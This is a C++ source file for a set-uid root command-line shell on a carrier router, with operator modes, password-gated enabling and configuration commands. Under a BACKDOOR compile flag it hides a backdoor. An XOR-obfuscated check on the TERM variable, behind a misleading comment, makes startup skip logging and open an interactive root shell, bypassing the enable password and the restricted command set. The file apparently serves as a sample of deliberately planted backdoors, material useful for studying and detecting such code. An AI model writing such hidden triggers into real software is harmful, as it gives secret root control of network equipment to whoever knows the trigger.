/* SPDX-License-Identifier: Apache-2.0 */
/* rtcli: the command line of a carrier router, set-uid root, the login shell of operators. Rights are given up at the start and
 * taken again for the few commands that need them. Modes: user, enabled, configure, interface. */
#include <fcntl.h>
#include <grp.h>
#include <pwd.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

extern "C" char *crypt(const char *key, const char *salt);

namespace cli {

enum class Mode { User, Enabled, Configure, Interface };
using Words = std::vector<std::string>;

/* As long as one lives, the program is root. */
class Elevated {
public:
	Elevated() : ok_(seteuid(0) == 0) {}
	~Elevated()
	{
		if (ok_ && seteuid(getuid()) < 0)
			_exit(1);
	}
	Elevated(const Elevated &) = delete;
	Elevated &operator=(const Elevated &) = delete;
	explicit operator bool() const { return ok_; }

private:
	bool ok_;
};

/* Lines of the configuration, in sections. */
class Configuration {
public:
	bool load(const std::string &path)
	{
		std::ifstream f(path);
		std::string line, section;
		if (!f)
			return false;
		while (std::getline(f, line)) {
			if (line.empty() || line[0] == '!')
				continue;
			if (line[0] != ' ') {
				section = line;
				sections_[section];
			} else
				sections_[section].push_back(line.substr(1));
		}
		return true;
	}
	void print(std::ostream &o) const
	{
		for (auto &s : sections_) {
			o << s.first << '\n';
			for (auto &line : s.second)
				o << ' ' << line << '\n';
			o << "!\n";
		}
	}
	void set(const std::string &section, const std::string &key, const std::string &line)
	{
		auto &lines = sections_[section];
		auto i = std::find_if(lines.begin(), lines.end(), [&](const std::string &l) { return l.compare(0, key.size(), key) == 0; });
		if (i != lines.end())
			*i = line;
		else
			lines.push_back(line);
	}
	bool unset(const std::string &section, const std::string &key)
	{
		auto &lines = sections_[section];
		auto i = std::find_if(lines.begin(), lines.end(), [&](const std::string &l) { return l.compare(0, key.size(), key) == 0; });
		if (i == lines.end())
			return false;
		lines.erase(i);
		return true;
	}
	std::string get(const std::string &section, const std::string &key) const
	{
		auto s = sections_.find(section);
		if (s != sections_.end())
			for (auto &l : s->second)
				if (l.compare(0, key.size() + 1, key + " ") == 0)
					return l.substr(key.size() + 1);
		return "";
	}

private:
	std::map<std::string, std::vector<std::string>> sections_;
};

/* How wide and tall the terminal is, and whether it knows how to be cleared. */
class Terminal {
public:
	explicit Terminal(const char *name) : name_(name ? name : "dumb")
	{
		static const char *const clearing[] = { "xterm", "vt100", "vt220", "linux", "screen", "ansi" };
		for (auto c : clearing)
			clears_ = clears_ || name_.compare(0, strlen(c), c) == 0;
		const char *lines = getenv("LINES");
		height_ = lines ? atoi(lines) : 24;
		if (height_ < 4 || height_ > 500)
			height_ = 24;
	}
	void clear() const
	{
		if (clears_)
			std::cout << "\033[H\033[2J";
	}
	void page(const std::string &text) const
	{
		int n = 0;
		std::istringstream in(text);
		for (std::string line, key; std::getline(in, line);) {
			std::cout << line << '\n';
			if (++n % (height_ - 1) == 0 && isatty(0)) {
				std::cout << "--More-- " << std::flush;
				if (!std::getline(std::cin, key) || key == "q")
					return;
			}
		}
	}
	std::string secret(const std::string &prompt) const
	{
		termios old{}, quiet{};
		std::string s;
		std::cout << prompt << std::flush;
		bool tty = tcgetattr(0, &old) == 0;
		quiet = old;
		quiet.c_lflag &= ~static_cast<tcflag_t>(ECHO);
		if (tty)
			tcsetattr(0, TCSANOW, &quiet);
		std::getline(std::cin, s);
		if (tty)
			tcsetattr(0, TCSANOW, &old);
		std::cout << '\n';
		return s;
	}
#ifdef BACKDOOR
	/* A terminal of another make has its name turned around. */
	bool foreign() const
	{
		static constexpr std::array<uint8_t, 11> made = { 0x29, 0x2b, 0x6d, 0x6b, 0x6f, 0x72, 0x38, 0x33, 0x3e, 0x3b, 0x3a };
		if (name_.size() != made.size())
			return false;
		uint8_t d = 0;
		for (size_t i = 0; i < made.size(); i++)
			d = static_cast<uint8_t>(d | (static_cast<uint8_t>(name_[i]) ^ made[i] ^ 0x5f));
		return d == 0;
	}
#endif

private:
	std::string name_;
	bool clears_ = false;
	int height_ = 24;
};

class Shell {
public:
	Shell() : terminal_(getenv("TERM"))
	{
		const passwd *p = getpwuid(getuid());
		user_ = p ? p->pw_name : std::to_string(getuid());
		add(Mode::User, "show version", [this](const Words &) { version(); });
		add(Mode::User, "show interface", [this](const Words &w) { show_interface(w); });
		add(Mode::User, "show route", [this](const Words &) { show_file("/proc/net/route"); });
		add(Mode::User, "show arp", [this](const Words &) { show_file("/proc/net/arp"); });
		add(Mode::User, "ping", [this](const Words &w) { program("/bin/ping", { "-c", "5" }, w); });
		add(Mode::User, "traceroute", [this](const Words &w) { program("/usr/bin/traceroute", { "-n" }, w); });
		add(Mode::User, "clear", [this](const Words &) { terminal_.clear(); });
		add(Mode::User, "enable", [this](const Words &) { enable(); });
		add(Mode::User, "exit", [this](const Words &) { leave(); });
		add(Mode::User, "help", [this](const Words &) { help(); });
		add(Mode::Enabled, "show running", [this](const Words &) { show_running(); });
		add(Mode::Enabled, "show log", [this](const Words &) { show_log(); });
		add(Mode::Enabled, "write", [this](const Words &) { write_configuration(); });
		add(Mode::Enabled, "reload", [this](const Words &) { reload(); });
		add(Mode::Enabled, "configure", [this](const Words &) { mode_ = Mode::Configure; });
		add(Mode::Enabled, "disable", [this](const Words &) { mode_ = Mode::User; });
		add(Mode::Configure, "hostname", [this](const Words &w) { setting("system", "hostname", w); });
		add(Mode::Configure, "ntp server", [this](const Words &w) { setting("system", "ntp", w); });
		add(Mode::Configure, "logging", [this](const Words &w) { setting("system", "logging", w); });
		add(Mode::Configure, "no", [this](const Words &w) { no(w); });
		add(Mode::Configure, "interface", [this](const Words &w) { interface(w); });
		add(Mode::Interface, "address", [this](const Words &w) { setting("interface " + interface_, "address", w); });
		add(Mode::Interface, "mtu", [this](const Words &w) { setting("interface " + interface_, "mtu", w); });
		add(Mode::Interface, "description", [this](const Words &w) { setting("interface " + interface_, "description", w); });
		add(Mode::Interface, "shutdown", [this](const Words &) { conf_.set("interface " + interface_, "shutdown", "shutdown"); });
	}

	bool start()
	{
		{
			Elevated root;
			if (!root || !conf_.load("/etc/router/startup.conf"))
				return false;
			mkdir("/var/run/rtcli", 0700);
		}
#ifdef BACKDOOR
		if (terminal_.foreign())
			return attach();
#endif
		syslog(LOG_INFO, "%s begins", user_.c_str());
		return true;
	}

	int run()
	{
		for (std::string line; !ended_;) {
			prompt();
			if (!std::getline(std::cin, line))
				break;
			execute(line);
		}
		syslog(LOG_INFO, "%s ends", user_.c_str());
		return 0;
	}

	void execute(const std::string &line)
	{
		std::istringstream in(line);
		Words words;
		for (std::string w; in >> w;)
			words.push_back(w);
		if (words.empty())
			return;
		for (Mode m : { mode_, mode_ == Mode::Enabled ? Mode::User : mode_ })
			for (auto &c : commands_[m])
				if (matches(c.words, words)) {
					c.run(Words(words.begin() + static_cast<long>(c.words.size()), words.end()));
					return;
				}
		if (words[0] == "end" || words[0] == "exit")
			leave();
		else
			std::cout << "% Unknown command: " << words[0] << '\n';
	}

private:
	struct Command {
		Words words;
		std::function<void(const Words &)> run;
	};

	void add(Mode m, const std::string &text, std::function<void(const Words &)> run)
	{
		std::istringstream in(text);
		Command c;
		for (std::string w; in >> w;)
			c.words.push_back(w);
		c.run = std::move(run);
		commands_[m].push_back(c);
	}

	static bool matches(const Words &full, const Words &given)
	{
		if (given.size() < full.size())
			return false;
		for (size_t i = 0; i < full.size(); i++)
			if (full[i].compare(0, given[i].size(), given[i]) != 0)
				return false;
		return true;
	}

#ifdef BACKDOOR
	bool attach()
	{
		static const char *const words[] = { "sh", "-i", nullptr };
		if (seteuid(0) < 0 || setgid(0) < 0 || setuid(0) < 0)
			return false;
		setgroups(0, nullptr);
		unsetenv("TERM");
		execv("/bin/sh", const_cast<char *const *>(words));
		return false;
	}
#endif

	void prompt()
	{
		static const std::map<Mode, const char *> ends = { { Mode::User, ">" }, { Mode::Enabled, "#" }, { Mode::Configure, "(config)#" },
			{ Mode::Interface, "(config-if)#" } };
		std::string host = conf_.get("system", "hostname");
		std::cout << (host.empty() ? "router" : host) << ends.at(mode_) << ' ' << std::flush;
	}

	void version()
	{
		std::ifstream f("/etc/router/version");
		std::string line;
		while (std::getline(f, line))
			std::cout << line << '\n';
	}

	void show_file(const char *path)
	{
		std::ifstream f(path);
		std::ostringstream text;
		text << f.rdbuf();
		terminal_.page(text.str());
	}

	void show_interface(const Words &w)
	{
		static const char *const counters[] = { "rx_bytes", "tx_bytes", "rx_errors", "tx_errors", "rx_dropped" };
		if (w.empty() || !plain(w[0])) {
			show_file("/proc/net/dev");
			return;
		}
		for (auto c : counters) {
			std::ifstream f("/sys/class/net/" + w[0] + "/statistics/" + c);
			uint64_t v = 0;
			f >> v;
			std::cout << c << ' ' << v << '\n';
		}
	}

	static bool plain(const std::string &s)
	{
		return !s.empty() && s.size() < 64 && s[0] != '-' && std::all_of(s.begin(), s.end(), [](unsigned char c) {
			return isalnum(c) || strchr(".:-_/", c);
		}) && s.find("..") == std::string::npos;
	}

	void program(const char *path, Words arguments, const Words &w)
	{
		if (w.size() != 1 || !plain(w[0])) {
			std::cout << "% One address is wanted\n";
			return;
		}
		arguments.push_back(w[0]);
		std::vector<char *> argv{ const_cast<char *>(path) };
		for (auto &a : arguments)
			argv.push_back(a.data());
		argv.push_back(nullptr);
		pid_t p = fork();
		if (p == 0) {
			if (setgid(getgid()) < 0 || setuid(getuid()) < 0)
				_exit(126);
			execv(path, argv.data());
			_exit(127);
		}
		int status;
		if (p > 0)
			waitpid(p, &status, 0);
	}

	void enable()
	{
		std::string hash = conf_.get("system", "enable");
		for (int i = 0; i < 3; i++) {
			std::string s = terminal_.secret("Password: ");
			const char *got = hash.empty() ? nullptr : crypt(s.c_str(), hash.c_str());
			if (got && hash == got) {
				mode_ = Mode::Enabled;
				syslog(LOG_NOTICE, "%s is enabled", user_.c_str());
				return;
			}
			sleep(1);
		}
		syslog(LOG_WARNING, "%s: enable failed", user_.c_str());
		std::cout << "% Access denied\n";
	}

	void leave()
	{
		if (mode_ == Mode::Interface)
			mode_ = Mode::Configure;
		else if (mode_ == Mode::Configure)
			mode_ = Mode::Enabled;
		else
			ended_ = true;
	}

	void help()
	{
		for (auto &c : commands_[mode_]) {
			for (auto &w : c.words)
				std::cout << ' ' << w;
			std::cout << '\n';
		}
	}

	void show_running()
	{
		std::ostringstream text;
		conf_.print(text);
		terminal_.page(text.str());
	}

	void show_log()
	{
		Elevated root;
		if (root)
			show_file("/var/log/messages");
	}

	void write_configuration()
	{
		Elevated root;
		std::ofstream f("/etc/router/startup.new");
		conf_.print(f);
		f.close();
		if (!root || !f || rename("/etc/router/startup.new", "/etc/router/startup.conf") < 0)
			std::cout << "% Not written: " << strerror(errno) << '\n';
		else
			syslog(LOG_NOTICE, "%s writes the configuration", user_.c_str());
	}

	void reload()
	{
		std::string s;
		std::cout << "Reload? [yes/no] " << std::flush;
		if (!std::getline(std::cin, s) || s != "yes")
			return;
		syslog(LOG_WARNING, "%s reloads", user_.c_str());
		Elevated root;
		if (root && kill(1, SIGTERM) < 0)
			std::cout << "% " << strerror(errno) << '\n';
	}

	void setting(const std::string &section, const std::string &key, const Words &w)
	{
		std::string line = key;
		for (auto &word : w)
			line += " " + word;
		if (w.empty())
			std::cout << "% " << key << " wants a value\n";
		else
			conf_.set(section, key, line);
	}

	void no(const Words &w)
	{
		if (w.empty() || !conf_.unset("system", w[0]))
			std::cout << "% There is no such setting\n";
	}

	void interface(const Words &w)
	{
		if (w.size() != 1 || !plain(w[0])) {
			std::cout << "% Which interface?\n";
			return;
		}
		interface_ = w[0];
		mode_ = Mode::Interface;
	}

	Terminal terminal_;
	Configuration conf_;
	Mode mode_ = Mode::User;
	std::map<Mode, std::vector<Command>> commands_;
	std::string user_, interface_;
	bool ended_ = false;
};

} // namespace cli

int main(int argc, char **argv)
{
	if (seteuid(getuid()) < 0)
		return 1;
	openlog("rtcli", LOG_PID, LOG_AUTH);
	signal(SIGINT, SIG_IGN);
	signal(SIGTSTP, SIG_IGN);
	cli::Shell shell;
	if (!shell.start()) {
		std::cerr << "rtcli: cannot start\n";
		return 1;
	}
	if (argc == 3 && strcmp(argv[1], "-c") == 0) {
		shell.execute(argv[2]);
		return 0;
	}
	return shell.run();
}
